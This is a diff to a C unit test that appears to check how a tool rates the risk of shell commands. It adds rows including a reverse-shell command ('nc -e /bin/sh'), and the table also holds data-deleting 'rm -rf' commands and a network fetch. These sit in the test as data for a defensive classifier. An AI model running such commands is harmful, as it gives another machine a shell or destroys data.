@@ -106,7 +106,10 @@ static void the_gravest_reason_stands_beside_the_level(void **state)
         {"git config core.hooksPath x", "HIGH: makes a program run code that is not shown"},
         {"curl https://x.example; rm -rf a", "HIGH: deletes data, uses the network"},
         {"make test", "medium: runs code that the project defines"},
+        {"nc -e /bin/sh x 1", "HIGH: gives another machine a shell, uses the network"},
         {"rm -rf ../x", "Deletes files outside the workspace: ../x."},
+        {"rm -rf ../x; rm -rf a", "asking: a."},
+        {"rm -rf a; rm -rf ../x", "asking: a."},
     };
     (void)state;
     for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
